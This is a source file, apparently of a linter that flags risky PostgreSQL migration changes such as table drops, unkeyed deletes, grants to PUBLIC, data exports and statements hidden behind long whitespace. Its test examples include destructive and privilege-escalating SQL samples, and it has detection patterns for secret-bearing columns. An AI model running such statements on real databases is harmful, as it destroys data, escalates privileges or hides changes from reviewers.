	valid: ["create table scratch (id int, role text); update scratch set role = 'a'; delete from scratch where role is null"],
	check: ({ effects }) => {
		const computed = /* @__PURE__ */ new Set();
		return effects.flatMap((effect) => {
			for (const column of computedBy(effect)) computed.add(column);
			if (effect.kind !== "writes" || effect.verb !== "delete" || !isNamed$1(effect)) return [];
			const column = effect.chosenBy?.find((name) => computed.has(columnKey(effect, name)));
			if (column === void 0 || effect.object.createdHere) return [];
			return [{
				effect,
				level: "high",
				message: `Deletes rows of ${objectName(effect.object)} by column ${column}, which this change computed.`,
				destructive: true
			}];
		});
	}
});
function computedBy(effect) {
	if (effect.kind === "alters" && effect.change === "add-column") return [columnKey(effect, effect.object.part ?? "")];
	if (effect.kind !== "writes" || effect.verb !== "update") return [];
	return (effect.columns ?? []).map((column) => columnKey(effect, column));
}
function columnKey({ object }, column) {
	return `${tableOf$1(object)}.${column}`;
}
const concurrentlyInTransaction = defineRule({
	id: "concurrently-in-transaction",
	axis: "lock",
	title: "CONCURRENTLY stands beside other statements",
	why: "PostgreSQL refuses it in the transaction that holds the other statements together.",
	instead: "Put the statement into a file of its own, without BEGIN and COMMIT.",
	invalid: [{
		sql: "create index concurrently users_email on users (email); select 1",
		level: "medium",
		message: "Works CONCURRENTLY beside other statements."
	}],
	valid: ["create index concurrently users_email on users (email)"],
	check: ({ scripts }) => scripts.filter((script) => script.statements.length > 1).flatMap(beside)
});
function beside({ unitId, statements }) {
	return statements.flatMap((statement, index) => {
		if (statement.kind === "unparsed") return [];
		const { kind } = transactionKindOf(statement.node);
		if (kind !== "creates-index-concurrently" && kind !== "drops-index-concurrently") return [];
		return [{
			effect: {
				unitId,
				statement: index,
				source: "static"
			},
			level: "medium",
			message: "Works CONCURRENTLY beside other statements.",
			counterfactual: "Alone in its file it is built without blocking writes, and nothing is said."
		}];
	});
}
const contractWithExpand = defineRule({
	id: "contract-with-expand",
	axis: "compatibility",
	title: "A column goes in the change that brings its replacement",
	why: "Code that knows only the old column and code that knows only the new one run side by side during a deployment: one of them fails.",
	instead: "Add the new column, deploy the code that writes both, then drop the old one in a later change.",
	invalid: [{
		sql: "alter table users add column full_name text; alter table users drop column name",
		level: "high",
		message: "Drops column name of table users beside the new column full_name."
	}],
	valid: ["alter table users add column full_name text"],
	check: ({ effects, scripts }) => {
		const added = declarationsOf(scripts, "column").filter((one) => one.added);
		const byTable = grouped(added, ({ table }) => table);
		const names = new Set(added.map(({ table, column }) => keyOf$1(table, column)));
		const filled = filledColumns(ofKind(effects, "writes"));
		return ofKind(effects, "drops").flatMap((effect) => {
			const { object } = effect;
			const beside = byTable.get(writtenTable(object))?.find((one) => isReplaced(effect, one, filled));
			const column = object.part;
			if (object.kind !== "column" || object.createdHere || column === void 0 || !beside) return [];
			if (names.has(keyOf$1(beside.table, column))) return [];
			return [{
				effect,
				level: "high",
				message: `Drops column ${column} of table ${writtenTable(object)} beside the new column ${beside.column}.`,
				destructive: true,
				counterfactual
			}];
		});
	}
});
/** The columns that an UPDATE of the change fills. */
function filledColumns(writes) {
	return new Set(writes.filter(({ verb }) => verb === "update").flatMap(({ object, columns = [] }) => columns.map((column) => keyOf$1(writtenTable(object), column))));
}
function keyOf$1(table, column) {
	return JSON.stringify([table, column]);
}
/** One file says it of both, the change fills the new column, or the names share a word. */
function isReplaced({ unitId, object: { part = "" } }, added, filled) {
	if (unitId === added.unitId || filled.has(keyOf$1(added.table, added.column))) return true;
	const words = new Set(added.column.split("_"));
	return part.split("_").some((word) => words.has(word));
}
const counterfactual = "In a later change, after the code that needs the old column is gone, only the drop itself is left.";
const words$2 = /(?:^|_)(?:e_?mail|phone|mobile|ssn|social_security|passport|iban|card_?number|cvv|birth_?date|date_of_birth|dob|salary|password\w*|passwd|pwd|secret|token|api_?key|private_?key|otp|mfa)(?:_|$)/i;
const power = /(?:^|_)(?:password\w*|passwd|pwd|secret|token|api_?key|private_?key|otp|mfa|role|roles|is_?admin|is_?superuser|permissions?|privileges?)(?:_|$)/i;
/** Whether a column of this name likely holds what not everybody may read. */
function isSensitive(column) {
	return words$2.test(column);
}
/** Whether a column of this name likely decides who may do what. */
function isPower(column) {
	return power.test(column);
}
const credentialWrite = defineRule({
	id: "credential-write",
	axis: "privilege",
	title: "A column that decides who may do what is written",
	why: "A new password, token or role opens the application to somebody, as a grant would open the database.",
	instead: "Let the application change it, where it is recorded, or let the owner of the accounts approve it.",
	invalid: [{
		sql: "update accounts set role = 'admin' where id = 4",
		level: "medium",
		message: "Writes column role of table accounts."
	}],
	valid: ["update users set age = 30 where id = 4"],
	check: ({ effects, scripts }) => {
		const created = createdTables(effects);
		return traitsOf(scripts, "assigns").filter(({ table }) => !created.has(tableOf$1(table))).flatMap((effect) => effect.columns.filter(isPower).map((column) => ({
			effect,
			level: "medium",
			message: `Writes column ${column} of table ${writtenTable(effect.table)}.`
		})));
	}
});
const dataExport = defineRule({
	id: "data-export",
	axis: "sensitivity",
	title: "Data leaves the database",
	why: "The rows go to whoever runs the change, unmasked.",
	instead: "Leave exports out of governed changes.",
	invalid: [{
		sql: "copy users to stdout",
		level: "high",
		message: "Copies table users out of the database."
	}, {
		sql: "copy (select 1) to stdout",
		level: "high",
		message: "Copies a query’s rows out of the database."
	}],
	valid: ["select count(*) from users"],
	check: ({ effects }) => ofKind(effects, "exports").map((effect) => {
		return {
			effect,
			level: "high",
			message: `Copies ${effect.object === void 0 ? "a query’s rows" : objectName(effect.object)} out of the database.`
		};
	})
});
const definerSearchPath = defineRule({
	id: "definer-search-path",
	axis: "privilege",
	title: "A function with its owner’s rights trusts its caller’s search path",
	why: "Whoever calls it decides which tables, functions and operators its names mean, and has them run with the owner’s rights.",
	instead: "Add SET search_path = pg_catalog, pg_temp and qualify the other names.",
	invalid: [{
		sql: "create function tally() returns int language sql security definer as $$ select 1 $$",
		level: "high",
		message: "Runs function tally with its owner’s rights and its caller’s search path."
	}],
	valid: ["create function tally() returns int language sql as $$ select 1 $$"],
	check: ({ effects }) => {
		const safe = new Set(ofKind(effects, "sets").filter(({ scope, setting }) => scope === "function" && setting === "search_path").map(statementOf$1));
		const created = new Set(ofKind(effects, "creates").map(statementOf$1));
		return ofKind(effects, "alters").filter(({ change }) => change === "security-definer").filter((effect) => created.has(statementOf$1(effect)) && !safe.has(statementOf$1(effect))).map((effect) => ({
			effect,
			level: "high",
			message: `Runs ${objectName(effect.object)} with its owner’s rights and its caller’s search path.`
		}));
	}
});
const deleteRows = defineRule({
	id: "delete-rows",
	axis: "data-loss",
	title: "Rows are deleted",
	why: "Deleted rows come back from a backup only, and rows of other tables may follow through foreign keys.",
	instead: "Delete by key, keep a copy of the rows, and compare the count with the rehearsal.",
	invalid: [
		{
			sql: "delete from users where created_at < '2020-01-01'",
			level: "high",
			message: "Deletes rows of table users that a condition selects."
		},
		{
			sql: "delete from users where id = 7",
			level: "medium",
			message: "Deletes rows of table users by key."
		},
		{
			sql: "delete from users where random() < 0.5",
			level: "high",
			message: "Deletes rows of table users that are others each time it runs."
		}
	],
	valid: ["create table scratch (id int); delete from scratch where id > 3"],
	counterfactual: {
		level: "medium",
		when: "it names the rows by their key",
		with: ["delete from users where id = 7"],
		only: ["high"]
	},
	check: ({ effects }) => ofKind(effects, "writes").filter(isChosen).map((effect) => {
		const { object, reach, rows, usesFacts } = effect;
		const message = rows === void 0 ? `Deletes rows of ${sizedName(object)}${choice$1(reach)}.` : `Deletes ${rows} ${rows === 1 ? "row" : "rows"} of ${objectName(object)}.`;
		return {
			effect,
			level: reach === "keyed" ? "medium" : "high",
			message,
			destructive: true,
			...usesFacts === void 0 ? factsOn(object) : { usesFacts }
		};
	})
});
function isChosen(effect) {
	const { verb, object, captured, reach } = effect;
	if (verb !== "delete" || object.createdHere || captured !== void 0) return false;
	return isNamed$1(effect) && reach !== "unbounded" && reach !== "tautology";
}
function choice$1(reach) {
	if (reach === "volatile") return " that are others each time it runs";
	return reach === "keyed" ? " by key" : " that a condition selects";
}
const domainCheck = defineRule({
	id: "domain-check",
	axis: "lock",
	title: "A domain gets a constraint that every table has to obey",
	why: "Each table with a column of the domain is locked against writes while all of its rows are read.",
	instead: "Add the check NOT VALID and validate it in a later change.",
	invalid: [{
		sql: "alter domain percent add constraint positive check (value > 0)",
		level: "medium",
		message: "Reads every table that uses domain percent, under a lock that blocks writes."
	}],
	valid: ["alter domain percent add constraint positive check (value > 0) not valid", "create domain scratch as int; alter domain scratch add constraint positive check (value > 0)"],
	check: ({ effects, scripts }) => {
		const created = createdObjects(effects, "domain");
		return traitsOf(scripts, "domain-check").filter(({ domain }) => !created.has(domain)).map((effect) => ({
			effect,
			level: "medium",
			message: `Reads every table that uses domain ${effect.domain}, under a lock that blocks writes.`
		}));
	}
});
const dropColumn = defineRule({
	id: "drop-column",
	axis: "data-loss",
	title: "A column is dropped",
	why: "Its values are lost in every row, and clients that still name the column fail at once.",
	instead: "Release a version that no longer reads or writes the column first, then drop it with its owner’s approval.",
	invalid: [{
		sql: "alter table public.users drop column email",
		level: "high",
		message: "Drops column public.users.email."
	}, {
		sql: "alter table users drop column if exists email cascade",
		level: "high",
		message: "Drops column users.email and everything that depends on it."
	}],
	valid: ["create table scratch (id int, note text); alter table scratch drop column note"],
	check: ({ effects }) => ofKind(effects, "drops").flatMap((effect) => {
		const { object, cascade } = effect;
		if (!isNamed$1(effect)) return [];
		if (object.kind !== "column" || object.createdHere && !cascade) return [];
		const more = cascade ? " and everything that depends on it" : "";
		return [{
			effect,
			level: "high",
			message: `Drops ${objectName(object)}${more}.`,
			destructive: true
		}];
	})
});
/** Kinds whose loss weighs more or less than `high`. */
const levels = {
	schema: "critical",
	database: "critical",
	extension: "critical",
	"owned-objects": "critical",
	tablespace: "critical",
	index: "medium",
	statistics: "medium"
};
const dropObject = defineRule({
	id: "drop-object",
	axis: "data-loss",
	title: "An object is dropped",
	why: "Whatever uses it fails at once, and what it held or protected is gone.",
	instead: "Make sure that nothing uses it any more, without CASCADE, and let its owner approve.",
	invalid: [
		{
			sql: "drop schema billing cascade",
			level: "critical",
			message: "Drops schema billing and everything that depends on it."
		},
		{
			sql: "drop view public.report",
			level: "high",
			message: "Drops view public.report."
		},
		{
			sql: "drop index users_email",
			level: "medium",
			message: "Drops index users_email."
		},
		{
			sql: "drop policy tenant on users",
			level: "high",
			message: "Drops policy users.tenant."
		}
	],
	valid: ["create view scratch as select 1; drop view scratch"],
	rewrite: saferForm,
	check: ({ effects }) => ofKind(effects, "drops").flatMap((effect) => {
		const { object, cascade } = effect;
		if (!isNamed$1(effect)) return [];
		if ([
			"table",
			"foreign-table",
			"column"
		].includes(object.kind)) return [];
		if (object.createdHere && !cascade) return [];
		const more = cascade ? " and everything that depends on it" : "";
		const destructive = cascade || object.kind !== "index" && object.kind !== "statistics";
		return [{
			effect,
			level: levels[object.kind] ?? "high",
			message: `Drops ${objectName(object)}${more}.`,
			destructive
		}];
	})
});
const dropTable = defineRule({
	id: "drop-table",
	axis: "data-loss",
	title: "A table is dropped",
	why: "Every row is gone when the change commits, and only a backup brings it back.",
	instead: "Stop using the table first, rename it and keep it for a while, then drop it with its owner’s approval.",
	invalid: [
		{
			sql: "drop table public.users",
			level: "critical",
			message: "Drops table public.users."
		},
		{
			sql: "drop table if exists orders cascade",
			level: "critical",
			message: "Drops table orders and everything that depends on it."
		},
		{
			sql: "create table if not exists users (id int); drop table users",
			level: "critical",
			message: "Drops table users."
		},
		{
			sql: "create temp table users (id int); drop table users; drop table users",
			level: "critical",
			message: "Drops table users."
		}
	],
	valid: ["create table scratch (id int); drop table scratch"],
	check: ({ effects }) => ofKind(effects, "drops").flatMap((effect) => {
		const { object, cascade } = effect;
		if (!isNamed$1(effect)) return [];
		if (object.kind !== "table" && object.kind !== "foreign-table") return [];
		if (object.createdHere && !cascade) return [];
		const more = cascade ? " and everything that depends on it" : "";
		return [{
			effect,
			level: "critical",
			message: `Drops ${sizedName(object)}${more}.`,
			destructive: true,
			...factsOn(object)
		}];
	})
});
const droppedDefault = defineRule({
	id: "dropped-default",
	axis: "compatibility",
	title: "A column loses its default",
	why: "Clients that relied on it insert NULL from then on, or fail.",
	instead: "Release a version that fills the column itself first.",
	invalid: [{
		sql: "alter table users alter column active drop default",
		level: "low",
		message: "Drops the default of column users.active."
	}],
	valid: ["alter table users alter column active set default true", "create table scratch (id int default 1); alter table scratch alter column id drop default"],
	check: ({ effects, scripts }) => {
		const dropped = new Set(declarationsOf(scripts, "default-dropped").map((column) => `${statementOf$1(column)} ${column.column}`));
		return ofKind(effects, "alters").filter(({ change, object }) => change === "column-default" && !object.createdHere).filter((effect) => dropped.has(`${statementOf$1(effect)} ${effect.object.part ?? ""}`)).map((effect) => ({
			effect,
			level: "low",
			message: `Drops the default of ${objectName(effect.object)}.`
		}));
	}
});
const enumValueInSameTransaction = defineRule({
	id: "enum-value-in-same-transaction",
	axis: "compatibility",
	title: "A new value of an enumeration is used in the transaction that adds it",
	why: "PostgreSQL refuses it: the value can only be used once the transaction that added it has committed.",
	instead: "Add the value in a file of its own, and use it in a later one.",
	invalid: [{
		sql: "alter type priority add value 'urgent'; insert into tickets (priority) values ('urgent')",
		level: "medium",
		message: "Uses the value urgent of priority in the transaction that adds it."
	}],
	valid: ["alter type priority add value 'urgent'", "alter type priority add value 'urgent'; insert into tickets (priority) values ('normal')"],
	check: ({ scripts }) => scripts.flatMap(usesIn)
});
function usesIn(script) {
	const values = declarationsOf([script], "enum-value");
	if (values.length === 0) return [];
	const byStatement = new Map(values.map((value) => [value.statement, value]));
	const added = /* @__PURE__ */ new Map();
	return script.statements.flatMap(({ text }, statement) => {
		const used = literalsOf(text).flatMap((literal) => added.get(literal) ?? []);
		const value = byStatement.get(statement);
		if (value !== void 0) added.set(literalOf(value.value), value);
		return used.map(({ unitId, value, type }) => ({
			effect: {
				unitId,
				statement,
				source: "static"
			},
			level: "medium",
			message: `Uses the value ${value} of ${type} in the transaction that adds it.`
		}));
	});
}
function literalOf(value) {
	return `'${value.replaceAll("'", "''")}'`;
}
function literalsOf(text) {
	return [...tokensOf(text)].filter(({ kind }) => kind === "quoted").map(({ start, end }) => text.slice(start, end));
}
const environmentBranch = defineRule({
	id: "environment-branch",
	axis: "concealment",
	title: "What it does depends on where or when it runs",
	why: "A rehearsal runs on another server and at another time: it may take the other branch, and show nothing.",
	instead: "Let the change do the same everywhere; give each database a change of its own.",
	invalid: [
		{
			sql: "do $$ begin if current_database() = 'production' then perform 1; end if; end $$",
			level: "high",
			message: "Decides by current_database."
		},
		{
			sql: "do $$ begin if inet_server_addr() is not null then perform 1; end if; end $$",
			level: "high",
			message: "Decides by inet_server_addr."
		},
		{
			sql: "update users set age = 1 where id = 1 and current_setting('cluster_name') = 'production'",
			level: "high",
			message: "Decides by cluster_name."
		},
		{
			sql: "do $$ begin if now() > date '2030-01-01' then perform 1; end if; end $$",
			level: "high",
			message: "Decides by now."
		}
	],
	valid: ["select current_database()", "do $$ declare at timestamptz; begin at := now(); raise notice 'at %', at; end $$"],
	check: ({ scripts }) => traitsOf(scripts, "environment").map((effect) => ({
		effect,
		level: "high",
		message: `Decides by ${effect.what}.`,
		unknown: true
	}))
});
const filteredUpdate = defineRule({
	id: "filtered-update",
	axis: "reach",
	title: "Rows are updated, nobody knows how many",
	why: "The condition names no key, so only the rehearsal tells how much it reaches.",
	instead: "Update by key, or in batches, and compare the count with the rehearsal.",
	invalid: [{
		sql: "update users set active = false where last_seen < '2020-01-01'",
		level: "medium",
		message: "Updates rows of table users that a condition selects."
	}, {
		sql: "update users set active = false where random() < 0.5",
		level: "high",
		message: "Updates rows of table users that are others each time it runs."
	}],
	valid: ["update users set active = false where id in (1, 2, 3)"],
	counterfactual: {
		level: "low",
		when: "it names the rows by their key",
		with: ["update users set active = false where id in (1, 2, 3)"]
	},
	check: ({ effects }) => ofKind(effects, "writes").filter(({ object, verb, reach, through, captured }) => verb === "update" && isNamed$1({ through }) && captured === void 0 && (reach === "filtered" || reach === "volatile") && !object.createdHere).map((effect) => ({
		effect,
		level: effect.reach === "volatile" ? "high" : "medium",
		message: `Updates rows of ${sizedName(effect.object)} that ${choice(effect.reach)}.`,
		...effect.usesFacts === void 0 ? factsOn(effect.object) : { usesFacts: true }
	}))
});
function choice(reach) {
	return reach === "volatile" ? "are others each time it runs" : "a condition selects";
}
const foreignKeyWithoutIndex = defineRule({
	id: "foreign-key-without-index",
	default: "off",
	axis: "lock",
	title: "A foreign key has no index on its own side",
	why: "Each deletion from the table that it refers to reads the whole referring table.",
	instead: "Create an index that begins with the columns of the foreign key.",
	invalid: [{
		sql: "create table notes (id bigint primary key, user_id int references users)",
		level: "low",
		message: "No index of table notes begins with user_id."
	}],
	valid: ["create table notes (id bigint primary key, user_id int references users); create index notes_user on notes (user_id)"],
	check: ({ scripts, catalog }) => {
		const here = traitsOf(scripts, "indexes");
		const before = (catalog.facts?.relations ?? []).flatMap(({ name, indexes }) => indexes.map(({ columns = [] }) => ({
			table: { name },
			columns
		})));
		const beginnings = new Set([...here, ...before].flatMap(beginningsOf));
		return traitsOf(scripts, "references").filter(({ table, columns }) => !beginnings.has(keyOf(table.name, columns))).map((effect) => ({
			effect,
			level: "low",
			message: `No index of table ${writtenTable(effect.table)} begins with ${effect.columns.join(", ")}.`
		}));
	}
});
/** The columns with which an index serves a foreign key: the first, the first two, and so on. */
function beginningsOf({ table, columns }) {
	return columns.map((_, last) => keyOf(table.name, columns.slice(0, last + 1)));
}
function keyOf(table, columns) {
	return JSON.stringify([table, ...[...new Set(columns)].toSorted()]);
}
const functionPromise = defineRule({
	id: "function-promise",
	axis: "compatibility",
	title: "What PostgreSQL believes of a function changes",
	why: "It takes the word for it: a wrong IMMUTABLE corrupts indexes, a wrong LEAKPROOF shows rows that policies hide.",
	instead: "Define the function anew with its body, so that the promise and the code are reviewed together.",
	invalid: [{
		sql: "alter function cleanup_users() immutable",
		level: "medium",
		message: "Declares function cleanup_users immutable."
	}, {
		sql: "alter function cleanup_users() leakproof",
		level: "high",
		message: "Declares function cleanup_users leakproof."
	}],
	valid: ["alter function cleanup_users() cost 10"],
	check: ({ scripts }) => traitsOf(scripts, "function-option").map((effect) => ({
		effect,
		level: effect.option === "leakproof" ? "high" : "medium",
		message: `Declares function ${effect.name} ${effect.option}.`
	}))
});
const grantToPublic = defineRule({
	id: "grant-to-public",
	axis: "privilege",
	title: "Everybody gets a privilege",
	why: "PUBLIC is every role of the cluster, those of the future included.",
	instead: "Grant the privilege to the role that needs it.",
	invalid: [
		{
			sql: "grant select on public.users to public",
			level: "high",
			message: "Grants select on table public.users to PUBLIC."
		},
		{
			sql: "grant all on all tables in schema public to public",
			level: "high",
			message: "Grants all on several objects to PUBLIC."
		},
		{
			sql: "create table t (id int); grant select on t to public",
			level: "high",
			message: "Grants select on table t to PUBLIC."
		}
	],
	valid: ["create table scratch (id int); grant select on scratch to reporting"],
	counterfactual: {
		level: "medium",
		when: "one role gets it",
		with: ["grant select on users to app"]
	},
	check: ({ effects }) => ofKind(effects, "grants").filter(({ to }) => to.includes("public")).map((effect) => ({
		effect,
		level: "high",
		message: `Grants ${effect.privileges.join(", ")} on ${targetOf(effect)} to PUBLIC.`
	}))
});
function targetOf({ object }) {
	return object === void 0 ? "several objects" : objectName(object).trim();
}
/** Wider than any window shows beside what stands before it, and higher than a screen. */
const widest = 120;
const highest = 60;
/** Blanks that comments divide into shorter stretches are not passed over: the comments are seen. */
const mayHold$3 = /[ \t]{41}|\n(?:[ \t\f\v\r]*\n){60}/;
/** Where text goes on behind so many blanks or blank lines that a reader takes what is before for all. */
function gapsOf(text) {
	if (!mayHold$3.test(text)) return [];
	const gaps = [];
	let blanks = 0;
	let lines = 0;
	for (const token of codeTokensOf(text)) if (token.kind === "space") {
		const parts = text.slice(token.start, token.end).split("\n");
		blanks = (parts.length === 1 ? blanks : 0) + (parts.at(-1)?.length ?? 0);
		lines += parts.length - 1;
	} else {
		if (isHidden(token, {
			blanks,
			lines
		})) gaps.push({
			index: token.start,
			text: text.slice(token.start, token.end)
		});
		lines = 0;
		if (token.kind !== "comment") blanks = 0;
	}
	return gaps;
}
/** A comment is shown by editors like everything else, but does nothing. */
function isHidden({ kind }, gap) {
	return kind !== "comment" && (gap.blanks > widest || gap.lines > highest);
}
const encoder = new TextEncoder();
/** The marks of stretches in ascending order, in time linear in the text. */
function marksOf({ unitId, source, statements }, stretches) {
	const { path, firstLine, text } = source;
	const ends = statements.map(({ place, text }) => place.offset + encoder.encode(text).length);
	let line = firstLine;
	let column = 1;
	let offset = 0;
	let position = 0;
	let statement = 0;
	return stretches.map((stretch) => {
		for (const character of text.slice(position, stretch.index)) {
			offset += encoder.encode(character).length;
			line += character === "\n" ? 1 : 0;
			column = character === "\n" ? 1 : column + 1;
		}
		position = stretch.index;
		while (statement < ends.length - 1 && (ends[statement] ?? 0) <= offset) statement += 1;
		const place = {
			path,
			line,
			column,
			offset
		};
		return {
			...stretch,
			unitId,
			statement,
			source: "static",
			place
		};
	});
}
const hiddenStatement = defineRule({
	id: "hidden-statement",
	axis: "concealment",
	title: "Something stands where nobody looks",
	why: "What is far to the right or far below is not on the screen of those who review the change.",
	instead: "Write it where it is read, right after what stands before it.",
	invalid: [
		{
			sql: `select 1;${" ".repeat(200)}select 2`,
			level: "high",
			message: "Goes on behind a wide gap: select."
		},
		{
			sql: `select 1;${"\n".repeat(100)}select 2`,
			level: "high",
			message: "Goes on behind a wide gap: select."
		},
		{
			sql: `select id from users where id = 1${"	".repeat(150)}/* all */ or true`,
			level: "high",
			message: "Goes on behind a wide gap: or."
		}
	],
	valid: [
		`select 1;\n\n\nselect 2;${" ".repeat(200)}\nselect 3`,
		`select '${" ".repeat(200)}'`,
		`select 1${" ".repeat(200)}-- the end`
	],
	check: ({ scripts }) => scripts.flatMap((script) => marksOf(script, gapsOf(script.source.text)).map((effect) => ({
		effect,
		place: effect.place,
		level: "high",
		message: `Goes on behind a wide gap: ${effect.text.slice(0, 60)}.`
	})))
});
const indexWithoutConcurrently = defineRule({
	id: "index-without-concurrently",
	axis: "lock",
	title: "An index is built while writes are blocked",
	why: "Nobody can write to the table until the whole index is built.",
	instead: "Use CREATE INDEX CONCURRENTLY alone in its own file; add a constraint USING INDEX afterwards.",
	invalid: [
		{
			sql: "create index users_email on users (email)",
			level: "medium",
			message: "Builds index users_email on table users while writes are blocked."
		},
		{
			sql: "alter table users add constraint users_email unique (email)",
			level: "medium",
			message: "Builds index users_email on table users while writes are blocked."
		},
		{
			sql: "create table if not exists notes (id int); create index notes_id on notes (id)",
			level: "low",
			message: "Builds index notes_id on table notes while writes are blocked, unless this change makes the table."
		}
	],
	valid: ["create index concurrently users_email on users (email)", "create table scratch (id int); create index scratch_id on scratch (id)"],
	counterfactual: {
		level: "low",
		when: "it is built CONCURRENTLY in a file of its own",
		with: ["create index concurrently users_email on users (email)"]
	},
	rewrite: saferForm,
	check: ({ effects }) => {
		const perhapsNew = onPerhapsNew(effects);
		const builds = ofKind(effects, "builds-index").filter((effect) => !effect.concurrently && !effect.object.createdHere);
		const [first, ...others] = builds.filter((effect) => perhapsNew.has(effect));
		return [...builds.filter((effect) => !perhapsNew.has(effect)).map((effect) => ({
			effect,
			level: "medium",
			message: `${words$1(effect)}.`
		})), ...first === void 0 ? [] : [unlessNew(first, others.length)]];
	}
});
function words$1({ index, object }) {
	return `Builds ${index === "" ? "an index" : `index ${index}`} on ${objectName(object)} while writes are blocked`;
}
/** Once for all of them: a new schema of many tables is no larger risk than one of a single table. */
function unlessNew(effect, others) {
	const more = others === 0 ? "" : ` So it does ${others} more.`;
	return {
		effect,
		level: "low",
		message: `${words$1(effect)}, unless this change makes the table.${more}`
	};
}
const indirectWrite = defineRule({
	id: "indirect-write",
	axis: "data-loss",
	title: "A statement changes more than it names",
	why: "Foreign keys, views, children, triggers and rules carry a write to other tables, and the statement does not say so.",
	instead: "Write to what is meant by name, in an order that lets nothing follow, and count the rows in the rehearsal.",
	invalid: [{
		sql: "alter table orders add constraint orders_owner foreign key (user_id) references users on delete cascade not valid; delete from users where id = 7",
		level: "medium",
		message: "Deleting from table users also changes orders, by a foreign key of this change."
	}],
	valid: ["update users set name = 'a' where id = 7"],
	check: ({ effects, scripts }) => [...byFacts(effects), ...byDeclarations(effects, declarationsOf(scripts, "foreign-key"))]
});
/** One remark for all that one statement takes along in the same way. */
function byFacts(effects) {
	const groups = /* @__PURE__ */ new Map();
	for (const effect of effects) {
		if (!isFollower(effect)) continue;
		const key = [
			statementOf$1(effect),
			effect.kind,
			effect.through.how,
			effect.through.path[0]
		];
		const group = groups.get(key.join(" "));
		if (group === void 0) groups.set(key.join(" "), [effect]);
		else group.push(effect);
	}
	return [...[...groups.values()].map(remarkOn), ...runners(effects)];
}
function isFollower(effect) {
	return "through" in effect && effect.through !== void 0;
}
function remarkOn(group) {
	const [first] = group;
	if (first === void 0) throw new TypeError("A group has a first member.");
	const { how, path } = first.through;
	const names = listed([...new Set(group.map(({ object }) => sizedName(object)))]);
	const message = `${words[how]} ${names}: ${reasons[how]} ${path[0] ?? ""}.`;
	const destructive = how !== "view";
	const [object, ...others] = group.map((effect) => effect.object);
	const about = object === void 0 || others.length > 0 ? {} : { object };
	const { unitId, statement, source } = first;
	return {
		effect: {
			unitId,
			statement,
			source
		},
		level: levelOf$2(first),
		message,
		destructive,
		usesFacts: true,
		...about
	};
}
const words = {
	cascade: "Also deletes rows of, or gives new keys to,",
	reset: "Also empties columns of",
	view: "Also writes to",
	child: "Also reaches the rows of",
	dependent: "Also takes along"
};
const reasons = {
	cascade: "a foreign key follows rows of",
	reset: "a foreign key follows rows of",
	view: "it is what one sees through",
	child: "it inherits, and the statement does not say ONLY",
	dependent: "it depends on"
};
/** At most five of them. */
function listed(names) {
	const shown = names.slice(0, 5).join(", ");
	return names.length > 5 ? `${shown} and ${names.length - 5} others` : shown;
}
function levelOf$2(effect) {
	if (effect.kind !== "writes") return effect.kind === "drops" ? "high" : "critical";
	if (effect.through.how === "view") return "low";
	if (effect.reach === "unbounded" || effect.reach === "tautology") return "critical";
	if (effect.reach === "keyed" || effect.through.how === "reset") return "medium";
	return effect.verb === "insert" ? "low" : "high";
}
/** Triggers of a destructive write, and rules and triggers that stand in for any write. */
function runners(effects) {
	return [...ofKind(effects, "writes"), ...ofKind(effects, "truncates")].flatMap((effect) => {
		const { runs = [], object } = effect;
		const quiet = effect.kind === "writes" && effect.verb !== "delete";
		if (runs.length === 0 || quiet && object.size !== void 0) return [];
		const message = `Writing to ${objectName(object)} runs ${listed(runs)}: the text does not say what that does.`;
		const stands = object.size === void 0;
		return [{
			effect,
			level: stands ? "high" : "low",
			message,
			unknown: stands,
			usesFacts: true
		}];
	});
}
/** Foreign keys that an earlier statement of the change gave to a table which was there before. */
function byDeclarations(effects, keys) {
	const byStatement = grouped(keys.filter((key) => key.added && key.onDelete !== "keeps"), statementOf$1);
	/** The tables that refer to a name, as far as the statements have been read. */
	const referring = /* @__PURE__ */ new Map();
	return effects.flatMap((effect) => {
		for (const { references, table } of byStatement.get(statementOf$1(effect)) ?? []) referring.set(references, (referring.get(references) ?? /* @__PURE__ */ new Set()).add(table));
		if (effect.kind !== "writes" || effect.verb !== "delete" || effect.through !== void 0) return [];
		if (effect.object.createdHere) return [];
		return [...referring.get(writtenName(effect)) ?? []].map((table) => {
			const message = `Deleting from ${objectName(effect.object)} also changes ${table}, by a foreign key of this change.`;
			return {
				effect,
				level: effect.reach === "keyed" ? "medium" : "high",
				message,
				destructive: true
			};
		});
	});
}
function writtenName({ object: { schema, name } }) {
	return schema === void 0 ? name : `${schema}.${name}`;
}
const jsonType = defineRule({
	id: "json-type",
	axis: "design",
	default: "off",
	title: "A column has the type json",
	why: "It has no equality, so DISTINCT, GROUP BY and UNION over it fail, and it is parsed again by every reader.",
	instead: "Use jsonb.",
	invalid: [{
		sql: "alter table users add column settings json",
		level: "low",
		message: "Column users.settings has the type json."
	}],
	valid: ["alter table users add column settings jsonb"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => type === "json").map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} has the type json.`
	}))
});
const keyUpdate = defineRule({
	id: "key-update",
	axis: "compatibility",
	title: "A primary key gets another value",
	why: "Whatever holds the old key points at nothing or at another row: other tables, caches, links, logs.",
	instead: "Keep the key, and insert a row under the new one where it has to change.",
	invalid: [
		{
			sql: "update users set id = 8 where id = 7",
			level: "medium",
			message: "Changes the key id of table users."
		},
		{
			sql: "update users set id = id + 1000 where created_at < now()",
			level: "high",
			message: "Changes the key id of table users in rows that a condition selects."
		},
		{
			sql: "create table if not exists shelves (code text primary key); update shelves set code = upper(code) where code <> upper(code)",
			level: "high",
			message: "Changes the key code of table shelves in rows that a condition selects."
		}
	],
	valid: ["update users set name = 'a' where id = 7"],
	check: ({ effects, scripts }) => {
		const declared = declarationsOf(scripts, "column").filter(({ isKey }) => isKey);
		const keysOfTables = new Map([...grouped(declared, ({ table }) => table)].map(([table, keys]) => [table, new Set(keys.map(({ column }) => column))]));
		return ofKind(effects, "writes").flatMap((effect) => {
			const { object, verb, columns = [] } = effect;
			if (verb !== "update" || object.createdHere || !isNamed$1(effect)) return [];
			const own = keysOfTables.get(nameOf(effect));
			const known = keysOf(effect);
			const others = known ?? ["id"];
			const key = columns.find((column) => own?.has(column) === true || others.includes(column));
			if (key === void 0) return [];
			const keyed = effect.reach === "keyed";
			const where = keyed ? "" : " in rows that a condition selects";
			const message = `Changes the key ${key} of ${objectName(object)}${where}.`;
			return [{
				effect,
				level: keyed ? "medium" : "high",
				message,
				...known === void 0 ? {} : { usesFacts: true }
			}];
		});
	}
});
function nameOf({ object: { schema, name } }) {
